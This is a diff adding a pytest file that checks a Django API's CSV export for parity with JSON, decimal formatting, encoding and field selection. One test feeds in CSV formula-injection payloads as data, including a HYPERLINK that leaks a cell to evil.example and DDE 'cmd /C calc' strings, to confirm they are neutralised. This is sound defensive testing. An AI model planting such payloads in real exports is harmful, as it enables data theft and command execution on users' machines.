@@ -1,0 +1,203 @@
+"""CSV export: the same rows as the JSON list, every one of them, safe to open in a
+spreadsheet."""
+
+from decimal import Decimal
+
+import pytest
+from django.utils.dateparse import parse_datetime
+
+from events.models import MetricType
+
+from ..factories import (
+    CompanyFactory,
+    MetricFactory,
+    MetricTypeFactory,
+    ProductFactory,
+    SourceFactory,
+)
+from . import test_companies, test_events, test_provenance
+from .base import csv_rows, results
+
+pytestmark = pytest.mark.django_db
+
+RESOURCES = [
+    test_companies.TestCompanies,
+    test_companies.TestProducts,
+    test_companies.TestPeople,
+    test_companies.TestPlatforms,
+    test_events.TestPartnerships,
+    test_events.TestFundingRounds,
+    test_events.TestInvestments,
+    test_events.TestMetricTypes,
+    test_events.TestMetrics,
+    test_events.TestEvents,
+    test_provenance.TestSources,
+    test_provenance.TestCitations,
+]
+
+
+def json_value(row: dict, header: str):
+    """The JSON value a CSV column stands for: `company_slug` is `company.slug`. A
+    sentinel when the JSON has no such value."""
+    if header in row and not isinstance(row[header], dict | list):
+        return row[header]
+    for name, value in row.items():
+        if isinstance(value, dict) and header.startswith(f"{name}_"):
+            key = header.removeprefix(f"{name}_")
+            if key in value:
+                return value[key]
+        if value is None and header.startswith(f"{name}_"):
+            return None
+    return NotImplemented
+
+
+def same(csv_cell: str, value) -> bool:
+    if value is None:
+        return csv_cell == ""
+    if isinstance(value, bool):
+        return csv_cell == ("true" if value else "false")
+    if isinstance(value, int):
+        return csv_cell == str(value)
+    if isinstance(value, str) and parse_datetime(value) and "T" in value:
+        return parse_datetime(csv_cell) == parse_datetime(value)
+    try:
+        return Decimal(csv_cell) == Decimal(value)
+    except (ArithmeticError, ValueError, TypeError):
+        return csv_cell == value
+
+
+@pytest.mark.parametrize("resource", RESOURCES, ids=lambda r: r.path)
+def test_csv_matches_json_row_for_row(anon_api, editor, resource):
+    resource = resource()
+    source = SourceFactory()
+    made = [resource.make_rich(editor, source) for _ in range(4)]
+    keys = ",".join(str(obj.pk) for obj in made[1:])
+    query = f"id={keys}&ordering=-id"
+    json_rows = results(anon_api.get(resource.url(query=query)))
+    header, csv_rows_ = csv_rows(anon_api.get(resource.url(query=f"{query}&format=csv")))
+    assert [int(row["id"]) for row in csv_rows_] == [row["id"] for row in json_rows]
+    assert [row["id"] for row in json_rows] == sorted((obj.pk for obj in made[1:]), reverse=True)
+    compared = 0
+    for json_row, csv_row in zip(json_rows, csv_rows_, strict=True):
+        for column in header:
+            value = json_value(json_row, column)
+            if value is NotImplemented:
+                continue
+            compared += 1
+            assert same(csv_row[column], value), (column, csv_row[column], value)
+    assert compared >= len(header) * len(json_rows) * 0.8
+
+
+def test_metric_decimals_and_filters_agree(anon_api):
+    company = CompanyFactory()
+    revenue = MetricType.objects.get(slug="revenue")
+    values = ["1234.5600", "0.0001", "500000000", "98765432101.25"]
+    for value in values:
+        MetricFactory(company=company, value=Decimal(value))
+    MetricFactory(product=ProductFactory(company=company), company=None, value=Decimal("7.5"))
+    MetricFactory(metric_type=revenue, currency="EUR", unit="money", value=Decimal("3"))
+    query = f"company={company.slug}&value_min=0.0001&ordering=value"
+    json_rows = results(anon_api.get(f"/api/v1/metrics/?{query}"))
+    _, csv_rows_ = csv_rows(anon_api.get(f"/api/v1/metrics/?{query}&format=csv"))
+    assert len(json_rows) == len(csv_rows_) == 5
+    for json_row, csv_row in zip(json_rows, csv_rows_, strict=True):
+        assert int(csv_row["id"]) == json_row["id"]
+        assert Decimal(csv_row["value"]) == Decimal(json_row["value"])
+        assert csv_row["metric_type_slug"] == json_row["metric_type"]["slug"]
+    assert [Decimal(row["value"]) for row in csv_rows_] == sorted(
+        Decimal(v) for v in [*values, "7.5"]
+    )
+    # Written as plain numbers: no exponent, no trailing zeros.
+    assert {row["value"] for row in csv_rows_} == {
+        "1234.56",
+        "0.0001",
+        "500000000",
+        "98765432101.25",
+        "7.5",
+    }
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTab first",
+        "\rCarriage return first",
+    ],
+)
+def test_formulas_are_neutralised(anon_api, text):
+    company = CompanyFactory(description=text, name=text)
+    _, rows = csv_rows(anon_api.get(f"/api/v1/companies/?id={company.pk}&format=csv"))
+    assert rows[0]["description"] == "'" + text
+    assert rows[0]["name"] == "'" + text
+    # JSON is data, not a spreadsheet: it stays as stored.
+    assert anon_api.get(f"/api/v1/companies/{company.pk}/").json()["description"] == text
+    # A single record exported as CSV is neutralised the same way.
+    one = anon_api.get(f"/api/v1/companies/{company.pk}/?format=csv").content.decode()
+    assert f"'{text}" in one or f"'{text}".replace('"', '""') in one
+
+
+def test_numbers_are_not_mistaken_for_formulas(anon_api):
+    percent = MetricTypeFactory(unit_kind="percent")
+    metric = MetricFactory(metric_type=percent, unit="percent", value=Decimal("-5.5"))
+    _, rows = csv_rows(anon_api.get(f"/api/v1/metrics/?id={metric.pk}&format=csv"))
+    assert rows[0]["value"] == "-5.5"
+
+
+def test_csv_is_utf8(anon_api):
+    name = "Société Générale – 東京 Ünïcödé"
+    company = CompanyFactory(name=name)
+    response = anon_api.get(f"/api/v1/companies/?id={company.pk}&format=csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    _, rows = csv_rows(response)
+    assert rows[0]["name"] == name
+
+
+def test_csv_keeps_commas_quotes_and_newlines_in_one_cell(anon_api):
+    text = 'Line one, with "quotes"\nline two'
+    company = CompanyFactory(description=text)
+    _, rows = csv_rows(anon_api.get(f"/api/v1/companies/?id={company.pk}&format=csv"))
+    assert rows[0]["description"] == text
+
+
+def test_csv_fields_keep_a_references_columns(anon_api):
+    product = ProductFactory()
+    query = f"id={product.pk}&format=csv&fields=id,company"
+    header, rows = csv_rows(anon_api.get(f"/api/v1/products/?{query}"))
+    assert header == ["id", "company_id", "company_name", "company_slug"]
+    assert rows == [
+        {
+            "id": str(product.pk),
+            "company_id": str(product.company_id),
+            "company_name": product.company.name,
+            "company_slug": product.company.slug,
+        }
+    ]
+
+
+def test_json_fields_keep_only_those_fields(anon_api):
+    metric = MetricFactory()
+    rows = results(anon_api.get(f"/api/v1/metrics/?id={metric.pk}&fields=id,value,region"))
+    assert rows == [{"id": metric.pk, "value": "1000", "region": ""}]
+
+
+def test_csv_error_is_readable(anon_api):
+    response = anon_api.get("/api/v1/companies/?format=csv&fields=nonsense")
+    assert response.status_code == 400
+    assert response["Content-Type"].startswith("text/csv")
+    text = response.content.decode()
+    assert text.startswith("field,value\r\nfields,")
+    assert "Unknown: nonsense" in text
+    assert "ErrorDetail" not in text
+
+
+def test_a_single_record_as_csv(anon_api):
+    company = CompanyFactory(name="Mistral AI")
+    response = anon_api.get(f"/api/v1/companies/{company.pk}/", HTTP_ACCEPT="text/csv")
+    assert response.status_code == 200
+    lines = response.content.decode().splitlines()
+    assert lines[0] == "field,value"
+    assert "name,Mistral AI" in lines
